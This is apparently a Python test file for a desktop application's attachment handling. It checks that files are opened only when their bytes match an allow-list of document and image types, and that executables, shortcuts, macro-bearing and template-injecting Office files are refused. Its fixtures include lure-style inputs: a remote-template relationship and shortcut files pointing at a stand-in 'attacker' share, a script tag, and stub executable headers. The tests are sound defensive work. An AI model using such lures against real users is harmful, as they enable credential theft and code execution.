"""Which attachments are opened: by their content alone, from a short allow-list; everything else is saved only."""

from __future__ import annotations

import io
import zipfile

import pytest

from desktop.domain.attachments import OpenableType, is_risky, openable_type

PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00/\x00\x00\x00\x10\x07\x10\x11\x11\x88\x88\xfe\x07\x00"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def package(parts: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(**extra: bytes | str) -> bytes:
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{DOCX_MAIN}"/></Types>'
    return package({"[Content_Types].xml": types, "word/document.xml": "<w:document/>", **extra})


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (PDF, OpenableType.PDF),
        (PNG, OpenableType.PNG),
        (JPEG, OpenableType.JPEG),
        (GIF, OpenableType.GIF),
        (WEBP, OpenableType.WEBP),
        (b"Laporan warga: jalan rusak di RT 05.\n", OpenableType.TEXT),
        (docx(), OpenableType.DOCX),
        (package({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"}), OpenableType.ODT),
    ],
)
def test_documents_and_pictures_are_recognised_by_their_bytes(content: bytes, kind: OpenableType) -> None:
    assert openable_type(content) is kind


def test_html_named_like_a_pdf_is_text_and_is_opened_as_txt() -> None:
    html = b"<html><body><img src='file://attacker/x.png'><script>alert(1)</script></body></html>"
    assert openable_type(html) is OpenableType.TEXT
    assert OpenableType.TEXT.extension == ".txt"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bukti.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"),
        ("foto.lnk", b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F"),
        ("laporan.chm", b"ITSF\x03\x00\x00\x00`\x00\x00\x00\x01\x00\x00\x00"),
        ("paket.cab", b"MSCF\x00\x00\x00\x00\x9e\x00\x00\x00"),
        ("arsip.zip", package({"laporan.exe": b"MZ\x90\x00"})),
        ("addin.xll", b"MZ\x90\x00\x03\x00\x00\x00"),
        ("diag.diagcab", b"MSCF\x00\x00\x00\x00\x9e\x00\x00\x00"),
        ("makro.docx", docx(**{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00"})),
        ("xlm.xlsx", package({"[Content_Types].xml": "<Types/>", "xl/macrosheets/sheet1.xml": "<x/>"})),
        ("ole.docx", docx(**{"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\x00"})),
        (
            "template.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": (
                        '<Relationships><Relationship Id="r1" TargetMode="External" Target="\\\\attacker\\t.dotm" '
                        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                        "</Relationships>"
                    )
                }
            ),
        ),
        ("basic.odt", package({"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml": "x"})),
        ("kosong.pdf", b""),
        ("biner.pdf", b"\x00\x01\x02\x03 not a pdf"),
        ("latin1.txt", "café".encode("latin-1")),
    ],
)
def test_anything_else_is_not_openable_whatever_its_name(name: str, content: bytes) -> None:
    assert openable_type(content) is None, name


@pytest.mark.parametrize(
    "name",
    [
        "x.svg",
        "x.html",
        "x.url",
        "x.chm",
        "x.rdp",
        "x.library-ms",
        "x.searchConnector-ms",
        "x.settingcontent-ms",
        "x.appref-ms",
        "x.diagcab",
        "x.xll",
        "x.cab",
        "x.zip",
        "x.lnk",
        "x.exe",
    ],
)
def test_a_textual_shell_file_is_opened_as_plain_text_never_under_its_own_extension(name: str) -> None:
    """.url, .rdp, .library-ms, .svg, .html…: text that the shell would act on; as .txt it is only read."""
    content = f"[InternetShortcut]\nURL=file://attacker/share/{name}\n<svg onload='x'/>".encode()
    kind = openable_type(content)
    assert kind is OpenableType.TEXT and kind.extension == ".txt"


def test_a_document_with_a_hyperlink_to_the_web_is_still_a_document() -> None:
    link = (
        '<Relationships><Relationship Id="r1" TargetMode="External" Target="https://example.go.id/" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"/></Relationships>'
    )
    assert openable_type(docx(**{"word/_rels/document.xml.rels": link})) is OpenableType.DOCX


def test_the_intake_warning_names_programs_by_name_type_or_bytes() -> None:
    assert is_risky("bukti.EXE. ", "application/octet-stream", b"")
    assert is_risky("foto.jpg", "application/x-msdownload", b"")
    assert is_risky("foto.jpg", "image/jpeg", b"MZ\x90\x00")
    assert is_risky("tautan.url", "text/plain", b"[InternetShortcut]")
    assert not is_risky("foto.jpg", "image/jpeg", b"\xff\xd8\xff")
